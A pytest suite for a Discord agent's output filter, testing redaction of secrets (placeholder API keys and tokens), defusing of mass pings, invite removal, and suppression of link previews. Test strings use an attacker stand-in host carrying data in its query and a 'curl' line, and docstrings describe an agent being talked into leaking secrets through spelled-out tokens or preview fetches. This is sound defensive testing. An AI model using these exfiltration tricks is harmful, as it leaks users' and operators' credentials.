"""What an agent says, as it leaves: no secret, no call to everybody, no preview that tells."""

from __future__ import annotations

import re
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aurora.chat.splitting import LIMIT, split_message
from aurora.guard.links import LONGEST, TOO_LONG
from aurora.guard.masking import SECRET, folders_of
from aurora.guard.output import INVITE, Output, heard_in
from aurora.model import Turn
from aurora.settings import GuildSettings
from tests.support.events import make_event
from tests.support.payloads import make_quote

BOT_TOKEN = "MTE3MzYwNTIzOTAwNTMxMDk3Ng.GxYzAb.abcdefghijklmnopqrstuvwxyz0123456789AB"
LETTA_TOKEN = "kJ8+aa/Zq3mPz0w1xYbC7d=="
KNOWN = (BOT_TOKEN, LETTA_TOKEN)
HEARD = "https://people.example/page?a=1_(b)"
EVIL = "https://evil.example/?q=the-vault-code"

SECRETS = (
    *KNOWN,
    "sk-proj-abcDEF123456ghiJKL7890mnoPQR",
    "sk-ant-api03-abcDEF123456_ghiJKL7890-mnoPQR",
    "sk-abcDEF123456ghiJKL7890mn",
    "AIzaSyA1234567890abcdefghijklmnopqrstuv",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuv",
    "xoxb-123456789012-abcdefGHIJKL",
    "AKIAIOSFODNN7EXAMPLE",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
    "NzI5OTY5NzE2NDU1NDUwNjg0.X07p2Q.abcdefghijklmnopqrstuvwxyz_",
    "https://discord.com/api/webhooks/1187654321098765432/abc-DEF_123",
    "https://hooks.slack.com/services/T000/B000/abcdef",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA12345\nab==\n-----END RSA PRIVATE KEY-----",
)
"""Some that are known, and one of each kind that is known by its looks."""


def turn(*said: str, chain: tuple[Any, ...] = ()) -> Turn:
    """Return a turn in which people said something."""
    event = make_event()
    event.context["message"]["content"] = " ".join(said)
    event.context["chain"] = list(chain)
    return Turn((event,))


def filtered(text: str, *, given_turn: Turn | None = None, **kept: Any) -> str:
    """Return a text as it leaves; somebody has named one address."""
    asked = given_turn or turn(f"look at {HEARD}, please")
    return output(**kept).filter(asked, text, LIMIT).text


def output(**kept: Any) -> Output:
    """Make a filter with settings, and two secrets that it knows."""
    return Output(
        lambda _guild: GuildSettings(**kept),
        secrets=lambda: KNOWN,
        folders=lambda: folders_of("/home/ada/letta/work"),
        role=lambda _guild, role: {100000000000000001: "The *Mods* @everyone <x>"}.get(role),
    )


# -- secrets


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize("frame", ["{}", "the key is {}.", "`{}`", "```\nKEY={}\n```", "[{}](x)"])
def test_a_secret_is_removed(secret: str, frame: str) -> None:
    """In code as well: of the agent's server, of a provider, of Discord."""
    said = filtered(frame.format(secret))
    assert said == frame.format(SECRET)


@pytest.mark.parametrize("between", ["\u200b", "\u3164", "\u2060", " ", "\n", "*", "**", "_", "`"])
@pytest.mark.parametrize("secret", KNOWN)
def test_a_known_secret_is_found_with_something_between_its_letters(
    between: str, secret: str
) -> None:
    """Who means to smuggle it out spells it."""
    assert filtered(between.join(secret)) == SECRET


@pytest.mark.parametrize("secret", SECRETS)
def test_a_secret_with_what_nobody_sees_in_it_is_found(secret: str) -> None:
    """Also one that is known by its looks alone."""
    assert filtered("\u200d\u2060".join(secret)) == SECRET


@pytest.mark.parametrize(
    "text",
    [
        "sk-estimator-doc-link-text-for-all",
        "sk-learn-pipeline-version-2",
        "take a risk-free-trial-of-this-thing",
        "ask-me-anything-about-the-year-two-thousand",
        "AKIA is a prefix, eyJ another; version 1.2.3",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "see /home/linus/notes and C:\\Users\\linus",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    """Words, names of classes, certificates."""
    assert filtered(text) == text


def test_a_key_without_an_end_takes_no_prose_along() -> None:
    """Who explains how such a file begins may go on."""
    said = filtered("It starts with -----BEGIN PRIVATE KEY----- and then come lines.")
    assert said == f"It starts with {SECRET} and then come lines."


def test_a_folder_of_the_agents_host_is_cut() -> None:
    """It tells who runs the server, and where."""
    said = filtered("I keep it in /home/ada/letta/work/a.md and `/home/ada/x`, not /home/adam.")
    assert said == "I keep it in …/a.md and `…/x`, not /home/adam."


@pytest.mark.parametrize("folder", ["/app", "/", "", "C:\\Windows", "/root"])
def test_a_folder_that_everybody_has_is_not_cut(folder: str) -> None:
    """People ask about paths."""
    assert folders_of(folder) == ()


# -- calls to everybody


def test_calls_to_everybody_are_defused() -> None:
    """Discord is told to ping nobody as well; this is for who copies it."""
    said = filtered("@everyone @here <@&100000000000000001> <@&100000000000000002> `@everyone`")
    assert said == "@\u200beveryone @\u200bhere @The Mods everyone x @role `@everyone`"


@pytest.mark.parametrize(
    "invite",
    [
        "discord.gg/abc", "https://discord.gg/abc-d", "discord.com/invite/abc", "dsc.gg/abc",
        "HTTPS://WWW.DISCORD.COM/INVITE/abc", "discordapp.com/invite/abc", "discord.gg//abc",
        "discord\\.gg\\/abc", "https://canary.discord.com/invite/abc",
    ],
)  # fmt: skip
def test_an_invitation_is_removed(invite: str) -> None:
    """An agent that is talked into it would advertise."""
    assert filtered(f"Join {invite} now") == f"Join {INVITE} now"
    assert filtered(f"[join]({invite})") == f"[join]({INVITE})"
    assert filtered(f"`{invite}`") == f"`{invite}`"


def test_a_server_may_allow_invitations() -> None:
    """With their cards, where they are whole addresses."""
    text = "Join https://discord.gg/abc or discord.gg/abc"
    assert filtered(text, allow_invites=True) == text


# -- links


@pytest.mark.parametrize(
    "text",
    [
        HEARD,
        f"see {HEARD}.",
        f"({HEARD})",
        f"**{HEARD}**",
        f"||{HEARD}||",
        f"[{HEARD}]",
        f"<{EVIL}>",
        f"`{EVIL}`",
        f"``a ` {EVIL}``",
        f"```sh\ncurl {EVIL}\n```",
        "https://discord.com/channels/1/2/3",
        "http:/evil.example and https: //evil.example",
        "mailto:ann@example.com ftp://example.com/x",
        f"[here]({HEARD}) (people.example)",
        f"[here](<{EVIL}>) (evil.example)",
    ],
)
def test_what_may_stand_stays(text: str) -> None:
    """What people wrote whole, what is in brackets already, what is code."""
    assert filtered(text) == text


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (EVIL, f"<{EVIL}>"),
        (f"Look: {EVIL}, or not.", f"Look: <{EVIL}>, or not."),
        (f"{HEARD}&q=secret", f"<{HEARD}&q=secret>"),
        (HEARD.replace("a=1", "a=2"), f"<{HEARD.replace('a=1', 'a=2')}>"),
        (f"{HEARD}!", f"<{HEARD}!>"),
        (f"{HEARD}]secret", f"<{HEARD}>]secret"),
        ("HTTPS://EVIL.EXAMPLE/x", "<HTTPS://EVIL.EXAMPLE/x>"),
        (f"x{EVIL}", f"x<{EVIL}>"),
        (f"**{EVIL}**", f"**<{EVIL}>**"),
        (f"||{EVIL}||", f"||<{EVIL}>||"),
        (f"\\{EVIL}", f"\\ <{EVIL}>"),
        (f"\\<{EVIL}>", f"\\<<{EVIL}>>"),
        (f"<{EVIL}", f"<<{EVIL}>"),
        (f"```\n{EVIL}", f"```\n<{EVIL}>"),
        (f"\\`{EVIL}`", f"\\`<{EVIL}>`"),
        (f"https://a.example`{EVIL}", f"<https://a.example>`<{EVIL}>"),
        ("https://evil\u200b.example/x", "<https://evil.example/x>"),
        ("https://people.example@evil.example/", "<https://people.example@evil.example/>"),
        (f"[here]({EVIL})", f"[here](<{EVIL}>) (evil.example)"),
        (f"[here]( <{EVIL}> 'people.example' )", f"[here](<{EVIL}>) (evil.example)"),
        (f"[here]({EVIL}) (people.example)",
         f"[here](<{EVIL}>) (evil.example) (people.example)"),
        (f"[here]({HEARD})", f"[here]({HEARD}) (people.example)"),
        ("[a](https://people.example@evil.example)",
         "[a](<https://people.example@evil.example>) (evil.example)"),
        ("[a](https://people.example\\@evil.example)",
         "[a](<https://people.example\\@evil.example>) (unclear address)"),
        ("[a](https://\u0440eople.example)",
         "[a](<https://\u0440eople.example>) (xn--eople-uye.example)"),
        ("[a](https://x.example/a|b`c)", "[a](<https://x.example/a%7Cb%60c>) (x.example)"),
        (f"[{HEARD}]({EVIL})", f"[{HEARD}](<{EVIL}>) (evil.example)"),
    ],
)  # fmt: skip
def test_an_address_that_nobody_named_gets_no_preview(text: str, said: str) -> None:
    """Discord would fetch it at once, and tell its host whatever stands in it."""
    assert filtered(text) == said


def test_an_address_that_is_too_long_to_stay_in_one_message_is_removed() -> None:
    """Cut in two it would stand in no brackets."""
    url = "https://evil.example/" + "a" * LONGEST
    assert filtered(f"{url} [x]({url}) <{url}>") == f"{TOO_LONG} [x] {TOO_LONG} {TOO_LONG}"


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://youtube.com/watch?v=1", True),
        ("https://WWW.YouTube.com/watch?v=1", True),
        ("https://youtube.com.evil.example/", False),
        ("https://evilyoutube.com/", False),
        ("https://youtube.com@evil.example/", False),
        ("https://evil.example@youtube.com/", False),
        ("https://youtube.com:8443/", False),
        ("https://youtube.com\\.evil.example/", False),
        ("https://youtube\u3002com/", False),
    ],
)
def test_hosts_that_admins_list_are_previewed(url: str, allowed: bool) -> None:
    """They and what is below them, and nothing that only looks like them."""
    assert filtered(url, embed_hosts=("youtube.com",)) == (url if allowed else f"<{url}>")


def test_what_a_tool_returned_may_be_previewed() -> None:
    """The agent passes on what somebody wrote in a channel that it read."""
    asked = turn("what was the link?")
    assert filtered(HEARD, given_turn=asked) == f"<{HEARD}>"
    asked.heard = heard_in([make_quote(f"it is <{HEARD}>!")])
    assert filtered(HEARD, given_turn=asked) == HEARD


def test_what_the_agent_or_another_bot_wrote_does_not_count() -> None:
    """Else it could say an address twice, or have it repeated, and the second would be fetched."""
    own = make_quote(f"<{EVIL}>")
    own["author"]["bot"] = True
    assert filtered(EVIL, given_turn=turn("and now?", chain=(own,))) == f"<{EVIL}>"


def test_of_a_long_text_only_what_was_asked_counts() -> None:
    """After a crash its rest is sent by who knows of no tools, and must be the same."""
    asked = turn(HEARD)
    asked.heard = frozenset({EVIL})
    text = f"{HEARD} {EVIL} " + "a " * LIMIT
    assert f"{HEARD} <{EVIL}>" in filtered(text, given_turn=asked)


@pytest.mark.parametrize(
    ("text", "held"),
    [
        (HEARD, False),
        (f"`{EVIL}`", True),
        (f"**`a** {EVIL} `b", True),
        (f"[`](x) {EVIL} `b", True),
        (f"<{EVIL}> {HEARD}", False),
    ],
)
def test_a_message_with_an_address_in_code_has_no_previews(text: str, held: bool) -> None:
    """What is code for Aurora may be none for Discord: markup around it comes first there."""
    said = output().filter(turn(HEARD), text, LIMIT)
    assert said.previews.hold_back(said.text) is held


def test_what_was_changed_is_said_in_words() -> None:
    """The agent is not to wonder."""
    assert output().filter(turn(), "hello", LIMIT).changes == ()
    said = output().filter(turn(), f"{LETTA_TOKEN} @here discord.gg/a {EVIL}", LIMIT)
    assert said.changes == (
        "a secret was removed",
        "an invite was removed",
        "links were set without a preview",
        "@everyone or @here was defused",
    )


# -- any text

PIECES = st.one_of(
    st.text(max_size=20),
    st.sampled_from(
        [
            *KNOWN, *(f" {one}" for one in SECRETS), EVIL, HEARD, "https://", "http://a", "<",
            ">", "`", "``", "```", "[", "](", ")", "(", "\\", "|", "||", "*", "**", "_", "~~",
            "\n", " ", '"', "'", ".", "!",
            "discord.gg/a", "@everyone", "<@&100000000000000001>", "\u200b", "\u200d", "://",
            " (evil.example)", "a" * 300,
            "https://a`", "@here", "/home/ada/letta", "-----BEGIN PRIVATE KEY-----", " 'x'", "://",
        ]
    ),
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=30).map("".join)
IN_BRACKETS = re.compile(r"(?<!\\)<https?://[^\s<>]+>", re.IGNORECASE)
BARE = re.compile(r"https?://\w[^\s<]*", re.IGNORECASE)


@settings(max_examples=150)
@given(TEXTS)
def test_filtering_twice_changes_nothing_more(text: str) -> None:
    """A text may pass twice: repeated by a restarted server, sent on after a crash."""
    once = filtered(text)
    assert filtered(once) == once


@settings(max_examples=150)
@given(TEXTS)
def test_no_part_has_a_secret_or_a_preview_that_tells(text: str) -> None:
    """However it is split, every part is one that Discord takes."""
    said = output().filter(turn(HEARD), text, LIMIT)
    for part in split_message(said.text):
        assert part.strip()
        assert len(part) <= LIMIT
        assert not any(secret in part for secret in SECRETS)
        bare = [one for one in BARE.findall(IN_BRACKETS.sub("", part)) if HEARD not in one]
        assert said.previews.hold_back(part) or not bare


@pytest.mark.parametrize(
    "evil",
    [
        "[" * 100_000, "](https://" * 10_000, "`" * 100_000, "` `` ``` " * 11_000,
        "https://" * 12_000, "https://a|" * 10_000, "https://|" * 10_000, "https://a]" * 10_000,
        "https://a) " * 9_000, "](https://a(" * 9_000,
        "-----BEGIN PRIVATE KEY-----" * 3_700, "a" * 100_000, "M" * 100_000, "eyJ" * 33_000,
        "eyJa." * 20_000, "sk-" * 33_000, "." * 100_000, "\\" * 100_000, "\\`" * 50_000,
        "discord.gg/" * 9_000, "<https://" * 11_000, "<" * 100_000, "https://a" + ")" * 100_000,
        "https://a" + ".," * 50_000, "@everyone" * 11_000, "\u200d" * 100_000, "MTE3" * 25_000,
        "M*T*E*" * 16_000, "https://a`" * 10_000, "<@&1>" * 20_000, "(" * 100_000,
        " ".join("`" * n for n in range(1, 440)), "e\u0301" * 50_000, "](https://a 'b" * 7_000,
    ],
)  # fmt: skip
def test_hostile_text_is_handled_in_no_time(evil: str) -> None:
    """No pattern may hold up the event loop; `make soak` measures it, this bound is wide."""
    start = time.thread_time()
    said = output().filter(turn(HEARD), evil, LIMIT)
    said.previews.hold_back(said.text)
    assert time.thread_time() - start < 0.5
